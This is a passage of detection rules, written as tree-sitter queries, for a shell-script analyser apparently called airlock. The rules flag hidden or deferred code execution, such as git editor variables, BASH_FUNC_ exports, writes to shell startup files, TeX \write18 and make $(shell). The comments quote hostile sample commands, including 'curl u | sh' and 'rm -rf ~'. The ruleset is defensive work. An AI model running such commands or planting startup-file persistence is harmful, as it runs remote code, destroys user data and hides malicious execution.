 (#match? @finding "^(GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|RSYNC_RSH|RSYNC_CONNECT_PROG|GIT_PROXY_COMMAND|GIT_CONFIG_VALUE_[0-9]+|PROMPT_COMMAND|LESSCLOSE|BROWSER|SYSTEMD_PAGER|SYSTEMD_EDITOR|SUDO_EDITOR|PSQL_PAGER)=|^(?i:core\\.(sshcommand|pager|editor|fsmonitor|askpass|gitproxy)|sequence\\.editor|diff\\.external|pager\\.[a-z.-]+|gpg\\.program|credential\\.helper|filter\\.[^.=]+\\.(clean|smudge|process)|diff\\.[^.=]+\\.(textconv|command)|merge\\.[^.=]+\\.driver|uploadpack\\.packobjectshook)=$")
 (#unknown-code? @whole)
 (#value-match? @code "\\s")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "sets a command line built at run time that git or another program runs with a shell (GIT_EDITOR, core.editor...); airlock analysed its constant pieces too")
 (#set! analyze "code"))

;   i=$(printf 'a[$(%s)]' "$c"), i="${v}[\$(${c})]"; [[ $i -gt 0 ]]: the
;   same value built at run time, an array subscript with a command
;   substitution in it, which any arithmetic use of the variable runs
((variable_assignment value: (_) @code) @finding
 (#match? @finding "\\[")
 (#not-match? @finding "^[A-Za-z_][A-Za-z0-9_]*(\\[[^]]*\\])?\\+?=\\$?'")
 (#value-match? @code "^[A-Za-z_][A-Za-z0-9_]*\\[[^]]*(\\$\\(|`)")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "builds a value with a command substitution in an array subscript, which bash runs when the value is used in arithmetic; airlock analysed that code too")
 (#set! analyze "code"))
; LESSOPEN='|cmd %s' less f, LESSOPEN='||cmd %s': less runs its input
; preprocessor with a shell: analysed
((variable_assignment value: (_) @code) @finding
 (#match? @finding "^LESSOPEN=")
 (#value-match? @code "^\\|")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "sets an input preprocessor that less runs with a shell (LESSOPEN); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "|"))

; zip -TT 'cmd #', zip --unzip-command=cmd: the program zip runs to test
; the archive is a shell command: analysed, or high when built at run time
((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#resolves-to? @n "zip")
 (#match? @flag "^(-TT|--unzip-command)$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives zip a command to run as its test program (-TT); airlock analysed that code too")
 (#set! analyze "code"))

((command argument: (_) @code) @n @finding
 (#resolves-to? @n "zip")
 (#value-match? @code "^--unzip-command=")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives zip a command to run as its test program (--unzip-command); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "="))

((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#resolves-to? @n "zip")
 (#match? @flag "^(-TT|--unzip-command)$")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "gives zip a command built at run time to run as its test program (-TT), which hides what it runs"))

; env 'BASH_FUNC_x%%=() { cmd; }' bash -c x: a function handed to child
; shells through the environment under a harmless name (export -f is the
; ordinary way), the code that name runs out of sight
([(word) (raw_string) (string) (ansi_c_string) (concatenation)] @finding
 (#value-match? @finding "^BASH_FUNC_[^=]*(%%|\\(\\))=")
 (#not-parent-type? @finding "concatenation")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "hands child shells a function through the environment (BASH_FUNC_name%%=), which runs code under a harmless name"))

; cat > "$d/git" <<'EOF' #!/bin/sh ... EOF, printf '#!/bin/sh\n%s\n' "$cmd" >
; hook: a script (its first line a #! to a shell) that the program writes
; to a file, to be run later under that file's name (on PATH, as a hook):
; analysed as the code it is. Any here-document that starts so is a
; script (only the body is matched: a rare node, no cost per command)
((heredoc_body) @code @finding
 (#value-match? @code "^#!\\s*\\S*/(env\\s+(-\\S+\\s+)*)?(ba|da|z|k|mk|a|y|po)?sh(\\s|$)")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes a shell script (#!) to be run later; airlock analysed that code too")
 (#set! analyze "code"))

((herestring_redirect (_) @code) @finding
 (#value-match? @code "^#!\\s*\\S*/(env\\s+(-\\S+\\s+)*)?(ba|da|z|k|mk|a|y|po)?sh(\\s|$)")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes a shell script (#!) to be run later; airlock analysed that code too")
 (#set! analyze "code"))

((redirected_statement body: (command) @n @code redirect: (file_redirect)) @finding
 (#resolves-to? @n "echo|printf")
 (#value-match? @code "^#!\\s*\\S*/(env\\s+(-\\S+\\s+)*)?(ba|da|z|k|mk|a|y|po)?sh(\\s|$)")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes a shell script to a file, to be run later; airlock analysed that code too")
 (#set! analyze "code"))

; cat > "$f" <<'EOF' ... EOF; . "$f", printf '%s\n' 'cmd' > "$f"; BASH_ENV="$f"
; bash -c :, echo 'cmd' > f; sh f: text written to a file that the program
; then sources, runs with a shell or makes a shell source first (BASH_ENV,
; ENV) is its own code: analysed (a script that starts with #! already is)
((heredoc_body) @code @finding
 (#resolves-to? @code "<written, then sourced>")
 (#not-value-match? @code "^#!\\s*\\S*/(env\\s+(-\\S+\\s+)*)?(ba|da|z|k|mk|a|y|po)?sh(\\s|$)")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes shell code to a file that it then sources or runs; airlock analysed that code too")
 (#set! analyze "code"))

((redirected_statement body: (command) @n @code redirect: (file_redirect)) @finding
 (#resolves-to? @n "<written, then sourced>")
 (#not-value-match? @code "^#!\\s*\\S*/(env\\s+(-\\S+\\s+)*)?(ba|da|z|k|mk|a|y|po)?sh(\\s|$)")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes shell code to a file that it then sources or runs; airlock analysed that code too")
 (#set! analyze "code"))

; printf '%s\n' "$line" | dd of=~/.bashrc oflag=append, echo 'code' | tee -a
; ~/.profile, printf '%s\n' "$l" | sort -m -o ~/.profile ~/.profile -: code
; piped into a program that writes it into a shell's startup file, which
; every new shell runs: analysed
((pipeline . (command) @n @code . (command argument: (_) @dst) @w .) @finding
 (#resolves-to? @n "echo|printf")
 (#resolves-to? @w "tee|dd|sponge|sort")
 (#value-match? @dst "(^(of=)?|/)(?&startup_files)|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "pipes shell code into a shell's startup file (tee, dd of=, sort -o), which every new shell runs; airlock analysed that code too")
 (#set! analyze "code"))

; { sort -u ~/.bashrc; printf '%s\n' "$line"; } | sponge ~/.bashrc, ( cat
; ~/.profile; echo 'code' ) | tee ~/.profile: the echo or printf is one
; command of a group or subshell piped into the writer: analysed the same
((pipeline . [(compound_statement (command) @n @code) (subshell (command) @n @code)] . (command argument: (_) @dst) @w .) @finding
 (#resolves-to? @n "echo|printf")
 (#resolves-to? @w "tee|dd|sponge|sort")
 (#value-match? @dst "(^(of=)?|/)(?&startup_files)|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "pipes shell code into a shell's startup file (tee, dd of=, sponge), which every new shell runs; airlock analysed that code too")
 (#set! analyze "code"))

; find F -fprintf ~/.bashrc 'curl u | sh\n': find writes its format (with
; its own escapes, \n, %p...) into the file named after -fprintf; into a
; shell's startup file, or where cron or systemd reads it, it is code run
; later that the analysis does not read as written
((command argument: (_) @flag . argument: (_) @dst) @w @finding
 (#match? @flag "^-fprintf$")
 (#resolves-to? @w "find")
 (#value-match? @dst "(^|/)(?&startup_files)|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/|^/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|$)|crontab$|anacrontab$)|^/var/spool/cron(/|$)|(^|/)\\.config/(systemd/user/|autostart/)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes text into a shell's startup file or a cron or systemd file with find -fprintf: code run later that the analysis does not read"))

; gawk -i inplace '{ print } ENDFILE { print line }' ~/.profile, awk
; --include=inplace 'NR == 1 { print "..." } 1' ~/.bashrc: gawk rewrites a
; shell's startup file in place, and its program prints text of its own
; into it (a program that only prints or edits the lines it reads, print
; or print $0, is not): code every new shell runs, which the analysis does
; not read
((command argument: (_) @code) @w @finding
 (#resolves-to? @w "[gm]?awk")
 (#match? @w "\\s(-i\\s*|--include[=\\s]\\s*)[\"']?inplace(\\.awk)?[\"']?(\\s|$)")
 (#value-match? @code "\\bprintf?\\b\\s*\\(?\\s*(?![;})|>\\s]|\\$0\\b|$)")
 (#arg-value-match? @w "(^|/)(?&startup_files)|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "rewrites a shell's startup file in place with gawk (-i inplace), printing text of its own into it: code every new shell runs, which the analysis does not read"))

; cat > f <<'D' (--- .bashrc, +++ .bashrc, @@ ..., +CODE) D; patch -p0 < f,
; git apply of a diff printf wrote: a patch, in a here-document or a string,
; that adds lines to a shell's startup file, in a program that runs patch or
; git: code every new shell runs, which the analysis does not read
([(heredoc_body) (string) (raw_string)] @finding
 (#match? @finding "(?m)^\\+\\+\\+[ \\t]+(\\S*/)?(\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|bash_aliases|bash_logout|xprofile|xsessionrc|xinitrc|envrc)|etc/(profile|bash\\.bashrc|zsh/zshrc|environment)|etc/profile\\.d/\\S+)([ \\t]|$)")
 (#match? @finding "(?m)^\\+(?!\\+\\+[ \\t])[ \\t]*[^\\s#]")
 (#program-calls? @finding "patch|git")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a patch that adds lines to a shell's startup file (patch, git apply): code every new shell runs, which the analysis does not read"))

;   printf '%s\n' '--- a/.zshrc' '+++ b/.zshrc' '@@ ...' '+CODE' > f: the same
;   patch given line by line to printf or echo
((command) @w @finding
 (#resolves-to? @w "printf|echo")
 (#match? @w "(?m)(^|\\s)[ \\t'\"]*\\+\\+\\+[ \\t]+(\\S*/)?(\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|bash_aliases|bash_logout|xprofile|xsessionrc|xinitrc|envrc)|etc/(profile|bash\\.bashrc|zsh/zshrc|environment)|etc/profile\\.d/[^\\s'\"]+)([ \\t'\"]|$)")
 (#match? @w "(?m)(^|\\s)[ \\t'\"]*\\+(?!\\+\\+[ \\t])[ \\t]*[^\\s#'\"]")
 (#program-calls? @w "patch|git")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a patch that adds lines to a shell's startup file (patch, git apply): code every new shell runs, which the analysis does not read"))

; sed -i '$a CODE' ~/.bashrc appends CODE to a shell's startup file: analysed


((command argument: (_) @code) @w @finding
 (#resolves-to? @w "sed|gsed")
 (#value-match? @code "^\\$\\s*a\\\\?\\s*\\S")
 (#arg-value-match? @w "(^|/)(?&startup_files)|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "appends a line to a shell's startup file with sed (sed -i '$a ...'), which every new shell runs; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "a"))

; cat > r.tex <<'X' ... \immediate\write18{rm -rf ~} ... X; pdflatex
; -shell-escape r.tex, lualatex --shell-escape '\directlua{}\write18{...}':
; a TeX document whose \write18 (or \ShellEscape) runs a shell command when
; typeset with shell escape, code the analysis does not read as written; cat >
; c.mk <<'X' ... $(shell curl u | sh) ... X; MAKEFILES=c.mk make, make -f -
; <<'X' ... $(shell rm -rf $(HOME)) ... X: make text whose $(shell ...)
; pipes into a shell or deletes the home or the root, which make runs as it
; reads the file however it is named (-f, MAKEFILES, include); $(shell git
; describe) and the like are not
([(heredoc_redirect) (raw_string) (string)] @b @finding
 (#match? @b "\\\\(immediate\\s*\\\\)?write18\\s*\\{|\\\\ShellEscape\\s*\\{|\\$[({]shell\\s[^\\n]*\\|\\s*(sudo\\s+)?(/\\S*/)?(ba|da|z|k|mk)?sh\\b|\\$[({]shell\\s+(\\S*/)?rm\\s+(-\\S+\\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\\s+(-\\S+\\s+)*[\"']?(~/?|\\$[({]HOME[)}]/?|\\$\\$HOME/?|/)[\"']?\\s*[)}]")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a TeX document or make text that runs a shell command (\\write18, \\ShellEscape; a $(shell ...) piped into a shell or deleting the home) when processed: code the analysis does not read"))

; printf '%s\n' "$l" | sed -n "w $HOME/.profile", sed -n '/x/w ~/.bashrc' f,
; sed 's/a/b/w ~/.zshrc' f: sed's w command (or s///w) writes the lines it
; reads, which the analysis does not see, into a shell's startup file
((command argument: (_) @code) @w @finding
 (#resolves-to? @w "sed|gsed")
 (#value-match? @code "(^|[/;}\\s$0-9,])w\\s*\\S*/\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|bash_logout|bash_completion|xprofile|xsessionrc|xsession|xinitrc)$|(^|[/;}\\s$0-9,])w\\s*/etc/(profile|bash\\.bashrc|zsh/zshrc|environment|profile\\.d/\\S+)$")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes text into a shell's startup file with sed's w command: code run later that the analysis does not read"))

; tee -a ~/.bashrc <<< "$line", tee -a ~/.zshrc <<'EOF', dd of=~/.profile
; oflag=append < <(printf '%s\n' "$line"), sort -u -o ~/.bashrc - ~/.bashrc
; <<< "$l": the same code given to the writer on its stdin by a
; here-string, a here-document or a process substitution
([(command redirect: (herestring_redirect) @code) @w
  (redirected_statement body: (command) @w (heredoc_redirect (heredoc_body) @code))
  (redirected_statement body: (command) @w redirect: (file_redirect destination: (process_substitution (command) @code)))] @finding
 (#resolves-to? @w "tee|dd|sponge|sort")
 (#arg-value-match? @w "(^(of=)?|/)(?&startup_files)|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives shell code to a program that writes it into a shell's startup file (tee, dd of=, sort -o), which every new shell runs; airlock analysed that code too")
 (#set! analyze "code"))

; cat >> ~/.zshrc <<< "$line", cat <<'EOF' >> ~/.bashrc: a here-string, or a
; here-document before the redirection, written into a startup file
([(redirected_statement body: (command redirect: (herestring_redirect) @code) @n redirect: (file_redirect destination: (_) @dst))
  (redirected_statement body: (command) @n redirect: (heredoc_redirect (file_redirect destination: (_) @dst) (heredoc_body) @code))] @finding
 (#resolves-to? @n "cat|tee")
 (#value-match? @dst "(^(of=)?|/)(?&startup_files)|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes shell code into a shell's startup file, which every new shell runs; airlock analysed that code too")
 (#set! analyze "code"))

; mapfile -C 'sh -c "$1"' -c 1 < <(curl u), readarray -C "$cb" -c 1 a: the
; callback is shell code run for every line read (with the index and the
; line after it); compgen -C 'cmd' word runs cmd in a subshell for its
; completions: analysed, or high when built at run time, or when the
; callback is eval (mapfile -C 'eval :'), which runs the line read itself
((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#match? @flag "^-[a-zA-Z]*C$")
 (#resolves-to? @n "mapfile|readarray|compgen")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs shell code for every line read (mapfile -C) or for completions (compgen -C); airlock analysed that code too")
 (#set! analyze "code"))

((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#match? @flag "^-[a-zA-Z]*C$")
 (#resolves-to? @n "mapfile|readarray|compgen")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs code built at run time for every line read (mapfile -C) or for completions (compgen -C), which hides what it does"))

; command_not_found_handle() { "${1#_}" "${@:2}"; }: the hook bash runs for
; every command that does not exist, made to run a command built from its
; arguments, so that a made-up name (_rm -rf ~) runs a real program out of
; sight (a hook that prints a message or runs a fixed helper is not)
((function_definition name: (word) @f body: (_) @body) @finding
 (#eq? @f "command_not_found_handle")
 (#match? @body "(^|[;{(|&\\n]|\\b(then|do|else|exec|command|builtin|eval|sudo|env|nohup))\\s*[\"']?\\$")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "defines command_not_found_handle to run a command built from its arguments, so that made-up command names run real programs out of sight"))

; echo "${banner@P}": the value expanded as a prompt string, whose $(...)
; and `...` run as commands: analysed as the code it is, or high when the
; value is built or read at run time (the prompts bash itself sets, PS0 to
; PS4, are the user's own)
((expansion (variable_name) "@" "P") @code @finding
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "expands a value as a prompt string (${v@P}), which runs the commands in it; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-in ": \"%s\""))

((expansion (variable_name) @v "@" "P") @code @finding
 (#not-match? @v "^PS[0-4]$")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "expands a value built at run time as a prompt string (${v@P}), which runs the commands in it and hides what it does"))
